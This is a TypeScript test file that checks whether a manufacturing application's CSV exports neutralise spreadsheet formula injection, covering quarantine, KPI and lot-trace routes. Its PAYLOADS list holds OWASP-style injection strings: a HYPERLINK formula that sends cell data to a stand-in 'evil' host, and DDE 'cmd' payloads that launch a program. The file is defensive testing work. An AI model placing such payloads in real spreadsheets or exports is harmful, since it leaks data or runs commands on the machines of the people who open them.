// Every CSV the product writes is safe to open in a spreadsheet (issue #11 item 5): the routes are taken from the
// server's own OpenAPI document (every GET with format=csv), each is fed records whose text fields hold formula
// payloads, and no cell of the answer may start with = + - @ tab or CR unless it is a typed number (a negative KPI
// stays a number). A new CSV route without a feeder here fails the first test, so it cannot skip the check.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Db } from '../../src/platform/db/database.ts';
import { MaterialLedger } from '../../src/lots/index.ts';
import { PlantService } from '../../src/plant/index.ts';
import { parseCsv } from '../../src/platform/csv.ts';
import { DB_KINDS, startTestServer, type TestServer } from '../support/server.ts';
import { orderBook } from '../../src/execution/index.ts';

/** Spreadsheet formulas as attackers write them (OWASP CSV injection), each fitting the field it is stored in. */
const PAYLOADS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
const ENTERPRISE = '-2-3'; // an equipment id may start with '-': its path is a formula in a spreadsheet

for (const kind of DB_KINDS) {
  describe(`CSV exports on ${kind}`, () => {
    let t: TestServer;
    let csvRoutes: string[] = [];
    const get = async (url: string) => {
      const res = await t.app.server.inject({ method: 'GET', url, headers: { authorization: `Bearer ${t.adminToken}` } });
      return res;
    };
    const call = async (method: string, url: string, body?: unknown) => {
      const res = await t.app.server.inject({ method: method as 'POST', url, payload: body as object, headers: { authorization: `Bearer ${t.adminToken}` } });
      if (res.statusCode >= 300) throw new Error(`${method} ${url}: ${res.body}`);
      return res.json();
    };
    const now = Date.now();
    const since = new Date(now - 3_600_000).toISOString();

    /** How to reach each CSV route with the payloads in it: a URL (after the seeding in beforeAll), and which payloads it shows. */
    const FEEDERS: Record<string, { url: string; shows: string[] }> = {
      '/api/quarantine': { url: `/api/quarantine?format=csv&from=${since}`, shows: PAYLOADS },
      '/api/performance/kpis': { url: `/api/performance/kpis?format=csv&equipment=${ENTERPRISE}&from=${since}`, shows: [ENTERPRISE] },
      '/api/lots/{id}/trace': { url: '/api/lots/CSV-OUT/trace?direction=backward&format=csv', shows: PAYLOADS.slice(0, 4) },
      '/api/lots/trace': { url: `/api/lots/trace?supplierLot=${encodeURIComponent(PAYLOADS[3])}&format=csv`, shows: PAYLOADS.slice(0, 3) },
    };

    beforeAll(async () => {
      t = await startTestServer({ db: kind });
      const doc = (await get('/api/openapi.json')).json() as {
        paths: Record<string, Record<string, { parameters?: Array<{ in: string; name: string; schema?: unknown }> }>>;
      };
      csvRoutes = Object.entries(doc.paths)
        .filter(([, ops]) => ops.get?.parameters?.some((p) => p.in === 'query' && p.name === 'format' && JSON.stringify(p.schema ?? {}).includes('"csv"')))
        .map(([path]) => path)
        .sort();

      // quarantine: what MQTT/HTTP sources send is the attacker's text (topic, reason from the payload, payload)
      await t.collect.pipeline.submit({
        observations: [],
        rejections: PAYLOADS.map((p, i) => ({ source: { protocol: 'http', client: p }, topic: `${p}/${i}`, reason: p, payload: p, receivedAt: now - 60_000 })),
      });
      // KPIs: a plant whose path starts like a formula (ids allow a leading '-')
      const ent = (await call('POST', '/api/equipment', { extId: ENTERPRISE, parentId: null, level: 'enterprise', name: PAYLOADS[0] })) as { id: string };
      await call('POST', '/api/equipment', { extId: '-9', level: 'machine', name: PAYLOADS[1], parentId: ent.id });
      // lots: supplier, supplier lot, location, hold reason and operator typed by people
      await call('POST', '/api/lots', {
        id: 'CSV-IN',
        material: 'PP-GRAN-BK',
        quantity: 50,
        location: PAYLOADS[2],
        supplier: PAYLOADS[0],
        supplierLot: PAYLOADS[3],
      });
      await call('POST', '/api/orders', { id: 'O-CSV', product: 'HSG-TOP', quantity: 10 });
      const ledger = new MaterialLedger(new PlantService(t.app.ctx.db, t.app.ctx.events), orderBook);
      await t.app.ctx.db.transaction(async (tx) => {
        const db = tx as unknown as Db;
        await ledger.consume(
          db,
          { id: null, name: 'csv' },
          { lotId: 'CSV-IN', quantity: 1, allowedMaterials: ['PP-GRAN-BK'], orderId: 'O-CSV', seq: 10, equipment: 'imm01', method: 'scan' },
        );
        await ledger.produce(
          db,
          { id: null, name: 'csv' },
          {
            lotId: 'CSV-OUT',
            materialId: 'HSG-TOP',
            quantity: 10,
            unit: 'pcs',
            orderId: 'O-CSV',
            seq: 10,
            equipment: 'imm01',
            operator: PAYLOADS[1],
            parameters: {},
          },
        );
      });
      await call('POST', '/api/lots/CSV-IN/hold', { reason: PAYLOADS[3] });
    });
    afterAll(async () => t?.close());

    it('knows every route that answers text/csv', () => {
      expect(csvRoutes.length).toBeGreaterThan(0);
      expect(csvRoutes).toEqual(Object.keys(FEEDERS).sort());
    });

    it('neutralises formula payloads in every cell of every CSV route, keeping them readable', async () => {
      for (const path of csvRoutes) {
        const { url, shows } = FEEDERS[path];
        const res = await get(url);
        expect(res.statusCode, `${path}: ${res.body}`).toBe(200);
        expect(String(res.headers['content-type'])).toMatch(/^text\/csv/);
        expect(String(res.headers['content-disposition'])).toMatch(/^attachment; filename="[A-Za-z0-9_.-]+\.csv"$/);
        const rows = parseCsv(res.body);
        expect(rows.length, path).toBeGreaterThan(1);
        const width = rows[0].length;
        for (const [i, row] of rows.entries()) {
          expect(row.length, `${path} line ${i + 1} has as many fields as the header`).toBe(width);
          for (const cell of row) if (!NUMBER.test(cell)) expect(cell, `${path} line ${i + 1}`).not.toMatch(FORMULA_START);
        }
        // the payloads are there, as text: prefixed with ' and otherwise intact
        const cells = rows.flat();
        for (const p of shows)
          expect(
            cells.some((c) => c.startsWith(`'${p}`)),
            `${path} shows ${JSON.stringify(p)} as text`,
          ).toBe(true);
      }
    });
  });
}
